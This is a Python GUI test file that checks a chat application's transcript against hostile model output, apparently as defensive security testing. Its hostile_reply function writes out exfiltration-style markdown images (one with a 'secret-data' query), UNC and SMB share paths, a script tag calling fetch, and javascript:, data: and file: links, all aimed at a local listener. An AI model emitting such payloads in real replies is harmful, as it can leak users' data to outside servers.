"""Hostile model output in the real window: a stored reply and a streaming one, both full of images and
links that point at local files, a listening server and network shares, raw HTML, and links of every scheme.

Nothing may be opened or contacted: a socket on 127.0.0.1 counts every connection, inotify sees any open of
the secret file (Qt's C++ included), and a Python audit hook sees opens, connections and commands from Python.
Links are clicked like a user would; the link handlers are Qt's own (QDesktopServices, intercepted with
setUrlHandler) and the confirmation is the real dialog, answered by the test.
"""

from __future__ import annotations

import socket
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import QObject, QPoint, Qt, QTimer, QUrl, Slot
from PySide6.QtGui import QColor, QDesktopServices, QImage
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication, QMessageBox
from pytestqt.qtbot import QtBot

from app.paths import HearthPaths
from app.qt.services import AppServices
from tests.reliability.conftest import RecordFault, messages_missing
from tests.ui.test_ui_safe_browser import _FileOpenWatch
from ui.main_window import MainWindow
from ui.message_row import TranscriptEntry
from ui.transcript import Transcript

pytestmark = [
    pytest.mark.gui,
    pytest.mark.skipif(sys.platform != "linux", reason="uses inotify to watch for file opens"),
]

CATEGORY = "Hostile model output"
SCHEMES = ("http", "https", "file", "smb", "ftp", "javascript", "data", "mailto")


class Listener:
    """A real server socket on 127.0.0.1 that records every connection made to it."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self._socket.settimeout(0.05)
        self.port = self._socket.getsockname()[1]
        self.connections: list[tuple[str, int]] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._accept, name="hostile-output-listener")
        self._thread.start()

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                conn, peer = self._socket.accept()
            except TimeoutError:
                continue
            self.connections.append(peer)
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self._socket.close()


class AuditLog:
    """Python-level opens, connections and commands while armed (audit hooks cannot be removed)."""

    _active: AuditLog | None = None
    _installed = False

    def __init__(self, watched: tuple[str, ...]) -> None:
        self.watched = watched
        self.events: list[tuple[str, str]] = []

    def __enter__(self) -> AuditLog:
        if not AuditLog._installed:
            sys.addaudithook(AuditLog._hook)
            AuditLog._installed = True
        AuditLog._active = self
        return self

    def __exit__(self, *exc_info: object) -> None:
        AuditLog._active = None

    @staticmethod
    def _hook(event: str, args: tuple[Any, ...]) -> None:
        log = AuditLog._active
        if log is None:
            return
        if event == "open" and any(w in str(args[0]) for w in log.watched):
            log.events.append((event, str(args[0])))
        elif event in ("socket.connect", "os.system", "subprocess.Popen", "os.exec", "os.posix_spawn"):
            log.events.append((event, repr(args)[:200]))


class UrlHandler(QObject):
    """Stands where the system browser would: QDesktopServices.openUrl hands it every URL it opens."""

    def __init__(self) -> None:
        super().__init__()
        self.opened: list[str] = []

    @Slot(QUrl)
    def open(self, url: QUrl) -> None:
        self.opened.append(url.toString())


class DialogAnswerer:
    """Answers the link confirmation (a modal QMessageBox) as the user would, and records what it showed."""

    def __init__(self) -> None:
        self.button = QMessageBox.StandardButton.Cancel
        self.shown: list[str] = []
        self._timer = QTimer()
        self._timer.setInterval(20)
        self._timer.timeout.connect(self._answer)
        self._timer.start()

    def _answer(self) -> None:
        box = QApplication.activeModalWidget()
        if isinstance(box, QMessageBox):
            self.shown.append(box.informativeText())
            box.button(self.button).click()

    def stop(self) -> None:
        self._timer.stop()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


@pytest.fixture
def url_handler() -> Iterator[UrlHandler]:
    handler = UrlHandler()
    for scheme in SCHEMES:
        # PySide6 wants the slot's name as str at run time; its type stub says bytes.
        QDesktopServices.setUrlHandler(scheme, handler, "open")  # type: ignore[arg-type]
    yield handler
    for scheme in SCHEMES:
        QDesktopServices.unsetUrlHandler(scheme)


@pytest.fixture
def services(hermetic_home: Path) -> Iterator[AppServices]:
    started = AppServices.start(HearthPaths(hermetic_home))
    yield started
    started.shutdown()


@pytest.fixture
def window(qtbot: QtBot, services: AppServices) -> Iterator[MainWindow]:
    """The real window with the real link seams: Qt's confirmation dialog and QDesktopServices.openUrl."""
    main = MainWindow(services, preload_model=False)
    main.resize(900, 900)
    main.show()
    qtbot.waitExposed(main)
    qtbot.waitUntil(lambda: main.initial_load_done, timeout=20_000)
    yield main
    main.close()
    QApplication.processEvents()
    main.deleteLater()
    QApplication.processEvents()


def hostile_reply(secret: Path, port: int) -> str:
    server = f"127.0.0.1:{port}"
    unc = "\\\\" * 2 + f"127.0.0.1@{port}" + "\\\\share\\\\x.png"  # \\127.0.0.1@PORT\share\x.png
    return "\n\n".join(
        [
            f"Local: ![a]({QUrl.fromLocalFile(str(secret)).toString()}) ![b](<{secret}>)",
            f"Remote: ![c](http://{server}/probe.png?q=secret-data) ![d](https://{server}/tls.png)",
            f"Shares: ![e](<{unc}>) ![f](file://{server}/share/x.png) ![g](//{server}/share/y.png)"
            f" ![h](smb://{server}/share/z.png)",
            f'Raw: <img src="http://{server}/raw.png"> <script>fetch("http://{server}/s")</script>'
            f' <a href="http://{server}/html">rawlink</a> <b>notbold</b>',
            f"Links: [jslink](javascript:fetch('http://{server}/js')) [datalink](data:text/html,hi)"
            f" [filelink](file://{secret}) [sharelink](<{unc}>) [smblink](smb://{server}/share)"
            f" [ftplink](ftp://{server}/x) [maillink](mailto:a@example.com)",
            "Web: [weblink](https://example.com/docs?q=1#part)",
        ]
    )


NON_HTTP_LINKS = ("jslink", "datalink", "filelink", "sharelink", "smblink", "ftplink", "maillink", "rawlink")


def click_text(transcript: Transcript, message_id: int, text: str) -> None:
    point: QPoint = transcript.text_point(message_id, text)
    QTest.mouseMove(transcript.viewport(), point)
    QTest.mouseClick(transcript.viewport(), Qt.MouseButton.LeftButton, pos=point)


def test_hostile_output_reaches_nothing_and_links_need_confirmation(
    qtbot: QtBot,
    services: AppServices,
    window: MainWindow,
    tmp_path: Path,
    listener: Listener,
    url_handler: UrlHandler,
    refusals: list[str],
    fault: RecordFault,
) -> None:
    secret = tmp_path / "secret.png"
    image = QImage(8, 8, QImage.Format.Format_RGB32)
    image.fill(QColor("red"))
    assert image.save(str(secret))
    text = hostile_reply(secret, listener.port)
    store = services.store
    conversation = store.create_conversation("Hostile")
    store.add_message(conversation.id, "user", "Show me something.")
    stored_id = store.add_message(conversation.id, "assistant", text).id

    before = [(m.id, m.content) for m in store.list_all_messages(conversation.id)]
    counted = 0

    def newly_missing() -> int:
        """Messages of the conversation missing or changed since the last time this was asked."""
        nonlocal counted
        now = messages_missing(before, [(m.id, m.content) for m in store.list_all_messages(conversation.id)])
        new, counted = now - counted, now
        return new

    raw_html = (
        f'<img src="http://127.0.0.1:{listener.port}/raw.png">',
        "<script>",
        '<a href="',
        "<b>notbold</b>",
    )
    lost = {"render": 0, "raw": 0, "other links": 0, "https": 0}
    transcript = window.transcript
    watch = _FileOpenWatch(secret)
    answerer = DialogAnswerer()
    try:
        with AuditLog((secret.name, "share")) as audit:
            # The stored reply, as opened from the sidebar.
            window.open_conversation(conversation.id)
            qtbot.waitUntil(lambda: transcript.row(stored_id) is not None, timeout=20_000)
            transcript.scroll_to_message(stored_id)
            transcript.viewport().grab()
            # The same text streaming in, as the model writes it.
            live_id = stored_id + 1000
            transcript.add_entry(TranscriptEntry(live_id, "assistant", "", status="streaming"))
            for start in range(0, len(text), 7):
                transcript.append_delta(live_id, text[start : start + 7])
                if start % 70 == 0:
                    transcript.flush()
                    transcript.viewport().grab()
            transcript.finish(live_id, "complete")
            transcript.scroll_to_message(live_id)
            transcript.viewport().grab()
            qtbot.wait(300)  # time for any request Qt might have started
            lost["render"] += newly_missing()

            for message_id in (stored_id, live_id):
                row = transcript.row(message_id)
                assert row is not None
                rendered = row.rendered_text()
                # Raw HTML is shown as the text it is: any of it missing from the text was interpreted.
                lost["raw"] += sum(len(fragment) for fragment in raw_html if fragment not in rendered)
                assert lost["raw"] == 0, rendered

                # Links that are not http(s) do nothing: no question, no handler, no navigation.
                for label in NON_HTTP_LINKS:
                    click_text(transcript, message_id, label)
                    QApplication.processEvents()
                lost["other links"] += newly_missing()
                assert answerer.shown == [] and url_handler.opened == []

                # An http(s) link asks first, showing the whole address; cancelled, nothing opens.
                answerer.button = QMessageBox.StandardButton.Cancel
                click_text(transcript, message_id, "weblink")
                qtbot.waitUntil(lambda: len(answerer.shown) == 1, timeout=20_000)
                assert answerer.shown == ["https://example.com/docs?q=1#part"]
                assert url_handler.opened == []
                # Accepted, it opens once, in the system's handler.
                answerer.button = QMessageBox.StandardButton.Open
                click_text(transcript, message_id, "weblink")
                qtbot.waitUntil(
                    lambda: url_handler.opened == ["https://example.com/docs?q=1#part"], timeout=20_000
                )
                lost["https"] += newly_missing()
                answerer.shown.clear()
                url_handler.opened.clear()

        assert refusals, "Qt never asked for an image, so the test proves nothing"
        assert listener.connections == [], "rendering model output contacted a server"
        assert watch.events() == 0, "rendering model output opened a local file"
        assert audit.events == []
        # None of the watches is blind: an open or a connection by anyone is seen.
        with AuditLog((secret.name,)) as control:
            secret.read_bytes()
        assert watch.events() > 0 and control.events
        socket.create_connection(("127.0.0.1", listener.port), timeout=5).close()
        qtbot.waitUntil(lambda: len(listener.connections) == 1, timeout=20_000)
    finally:
        answerer.stop()
        watch.close()
    # Rendered, streamed and clicked: the conversation holding the hostile reply stays as it was.
    fault(
        CATEGORY,
        "images naming local files, a listening server and network shares (stored and streaming)",
        trials=2,
        outcome="no connection, no file opened; Qt got a placeholder image",
        lost={"messages": lost["render"]},
    )
    fault(
        CATEGORY,
        "raw HTML (`<img>`, `<script>`, `<a>`, `<b>`)",
        trials=2,
        outcome="shown as text, nothing interpreted",
        lost={"characters": lost["raw"]},
    )
    fault(
        CATEGORY,
        "clicks on javascript:, data:, file:, UNC, smb:, ftp:, mailto: and raw-HTML links",
        trials=2 * len(NON_HTTP_LINKS),
        outcome="nothing happens: no dialog, no handler, no navigation",
        lost={"messages": lost["other links"]},
    )
    fault(
        CATEGORY,
        "click on an https link",
        trials=4,
        outcome="the full URL is shown for confirmation; opened only when accepted",
        lost={"messages": lost["https"]},
    )
    assert lost == dict.fromkeys(lost, 0)
